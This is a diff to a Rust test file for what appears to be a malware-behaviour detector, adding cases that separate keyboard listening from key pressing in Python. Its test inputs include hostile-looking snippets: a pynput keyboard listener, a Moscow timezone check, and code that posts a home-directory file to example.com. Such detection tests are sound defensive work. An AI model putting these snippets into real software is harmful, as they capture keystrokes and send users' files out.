@@ -234,6 +234,18 @@ fn told(steps: &[Step], feature: Feature, detail: &str) -> bool {
     "send file",
     false
 )]
+#[case::keys_pressed(
+    "from pynput.keyboard import Controller\nController().press('a')",
+    Feature::CaptureInput,
+    "",
+    false
+)]
+#[case::keys_heard(
+    "from pynput.keyboard import Listener\nListener(on_press=f).join()",
+    Feature::CaptureInput,
+    "keyboard",
+    true
+)]
 #[case::zone("x = zone == 'Europe/Moscow'", Feature::CheckEnvironment, "locale", true)]
 #[case::place_of_a_file(
     "import os, requests\nh = os.path.expanduser('~') + os.getlogin()\nrequests.post('https://example.com', data=open(h + '/a.txt').read())",
@@ -407,12 +419,7 @@ fn in_python(#[case] source: &str, #[case] feature: Feature, #[case] detail: &st
     "environment whole",
     true
 )]
-#[case::resolved_against_the_page(
-    "fetch(new URL('/a', window.location.href))",
-    Feature::SendData,
-    "send host",
-    false
-)]
+#[case::resolved_against_the_page("fetch(new URL('/a', window.location.href))", Feature::SendData, "send host", false)]
 #[case::page_told("fetch('https://example.com/?u=' + window.location.hostname)", Feature::SendData, "send host", true)]
 #[case::browser_by_name("const names = ['vivaldi', 'brave-browser']", Feature::ReadSecret, "", false)]
 #[case::own_module("require('./lib/cookies')", Feature::ReadSecret, "", false)]
